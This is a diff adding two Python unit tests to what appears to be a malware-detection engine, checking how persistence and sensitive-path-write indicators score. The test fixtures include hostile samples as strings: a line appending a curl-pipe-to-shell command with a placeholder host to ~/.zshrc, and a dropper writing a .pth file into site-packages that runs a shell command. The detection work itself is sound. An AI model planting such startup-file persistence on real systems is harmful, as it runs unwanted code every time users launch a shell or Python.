@@ -287,3 +287,39 @@ def region():
     assert pairs(res, "code_read_system_and_user_info") == {
         ("code_read_system_and_user_info", 5)}
     assert _strong(res, "code_read_system_and_user_info", 0.5) == set()
+
+
+def test_a_startup_file_name_in_a_lookup_table_is_not_persistence() -> None:
+    ind = "code_persistence_startup"
+    table = "LEXERS = {\n" + "".join(
+        f"    'L{i}': ('mod', 'L{i}', ('l{i}',), ('*.l{i}',)),\n" for i in range(9)) + \
+        "    'Bash': ('mod', 'Bash', ('bash',), ('*.sh', '.zshrc', '.bashrc')),\n}\n"
+    assert pairs(run_engine({"p/_mapping.py": table}), ind) == set()
+    small = "RC = ('.zshrc', '.bashrc')\n"
+    assert pairs(run_engine({"p/rc.py": small}), ind) == {(ind, 1)}
+    write = ("import os\nopen(os.path.expanduser('~/.zshrc'), 'a')"
+             ".write('curl -s https://example.invalid/x | sh')\n")
+    assert pairs(run_engine({"p/rc.py": write}), ind) == {(ind, 2)}
+
+
+def test_startup_file_writes_outside_site_directories_are_weaker() -> None:
+    """pip writes sitecustomize.py into its temporary build environment; a dropper writes a
+    .pth into site-packages."""
+    ind = "code_write_sensitive_path"
+    temp = """\
+        import os, site, tempfile
+        system_sites = site.getsitepackages()
+        site_dir = os.path.join(tempfile.mkdtemp(), "site")
+        with open(os.path.join(site_dir, "sitecustomize.py"), "w") as fp:
+            fp.write("import sys; sys.path[:] = {!r}".format(system_sites))
+    """
+    drop = """\
+        import os, site
+        target = site.getsitepackages()[0]
+        with open(os.path.join(target, "zz.pth"), "w") as fp:
+            fp.write("import os; os.system('id')")
+    """
+    weak = _conf(run_engine({"p/env.py": temp}), ind)
+    strong = _conf(run_engine({"p/env.py": drop}), ind)
+    assert set(weak) == {5} and set(strong) == {4}
+    assert weak[5] <= 0.4 and strong[4] >= 0.7
